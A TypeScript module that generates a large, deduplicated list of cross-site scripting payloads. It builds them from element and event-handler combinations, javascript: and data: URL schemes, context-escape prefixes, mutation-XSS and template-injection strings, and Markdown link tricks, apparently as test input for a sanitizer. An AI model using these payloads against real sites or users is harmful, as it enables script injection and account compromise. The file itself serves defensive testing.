import { readCorpus } from './index.ts';

/** Whatever can carry a script in a page, by kind of element, of event, of address and of escape; each unique. */

const ELEMENTS =
  'a abbr audio b base body button canvas datalist details dialog div embed fieldset form frame frameset h1 iframe img input ins isindex kbd keygen label li link map marquee math menu meta meter noscript object ol option output p picture pre q script select slot source span style svg table td template textarea title tr track ul video wbr x'.split(
    ' ',
  );
const EVENTS =
  'onload onerror onclick onfocus onblur onmouseover onmouseenter onpointerover onpointerdown ontoggle onbegin onend onrepeat onanimationstart onanimationend ontransitionend onscroll onresize onwheel oninput onchange oninvalid onsubmit onreset onselect oncut oncopy onpaste oncanplay onplay onloadstart onstart onfinish onbounce onhashchange onpageshow onbeforetoggle oncontentvisibilityautostatechange onauxclick onfocusin'.split(
    ' ',
  );
const ATTRIBUTES =
  'href src action formaction data poster background xlink:href srcset ping code codebase dynsrc lowsrc'.split(' ');
const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript&colon;alert(1)',
  'javascript&Tab;:alert(1)',
  'javascript:/*--></title></style></textarea></script>*/alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'vbscript:msgbox(1)',
  'blob:null/alert(1)',
];
/** What a text may be set in: it is ended first. */
const ESCAPES = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '*/',
  '</script>',
  '</style>',
  '</title>',
  '</textarea>',
  '</noscript>',
  '</template>',
  '</svg>',
  '</code></pre>',
  '\n\n```\n\n',
  '`',
  '"}}',
  '\u2028',
  '\\u003c/script>',
];
const SCRIPTS = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//portico.invalid/x.js></script>',
  '<script/x>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<svg><script>alert&#40;1&#41;</script>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="javascript:/a/-alert(1)///////">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)//',
  '<style>@import"javascript:alert(1)";*{background:url(javascript:alert(1))}</style>',
  '<a href="x" style="animation-name:x" onanimationend=alert(1)>',
];
/** Markdown's own ways. */
const MARKDOWN = SCHEMES.flatMap((scheme) => [
  `[press](${scheme})`,
  `[press](<${scheme}>)`,
  `![picture](${scheme})`,
  `<${scheme}>`,
  `[press]\n\n[press]: ${scheme}`,
  `[![x](x"onerror="alert(1))](${scheme})`,
  `[press](https://portico.invalid "${scheme}\\" onmouseover=\\"alert(1)")`,
]);

const blns = (): readonly string[] => {
  // A corpus of ours.
  const texts = JSON.parse(new TextDecoder().decode(readCorpus('blns.json'))) as readonly string[];
  return texts.filter((text) => /[<>&]|script|alert/i.test(text));
};

/** Above 8,800 of them, in an order in which kinds take turns. */
export const scriptPayloads = (): readonly string[] => {
  const kinds = [
    ELEMENTS.flatMap((element) =>
      EVENTS.flatMap((event, index) => [
        `<${element} ${event}=alert(1) src=x tabindex=0 autofocus>x</${element}>`,
        `<${element.toUpperCase()}/${event}="alert(1)"/x=${index}>`,
        `<${element}\n${event}\n=\n'alert(1)'`,
      ]),
    ),
    ELEMENTS.flatMap((element) =>
      ATTRIBUTES.flatMap((attribute) =>
        SCHEMES.filter((_, index) => (index + attribute.length + element.length) % 7 === 0).map(
          (scheme) => `<${element} ${attribute}="${scheme}">x</${element}>`,
        ),
      ),
    ),
    ESCAPES.flatMap((ending) => SCRIPTS.map((script) => `${ending}${script}`)),
    MARKDOWN,
    blns(),
  ];
  const longest = Math.max(...kinds.map(({ length }) => length));
  const turns = Array.from({ length: longest }, (_, at) => kinds.flatMap((kind) => kind.slice(at, at + 1)));
  return [...new Set(turns.flat())];
};
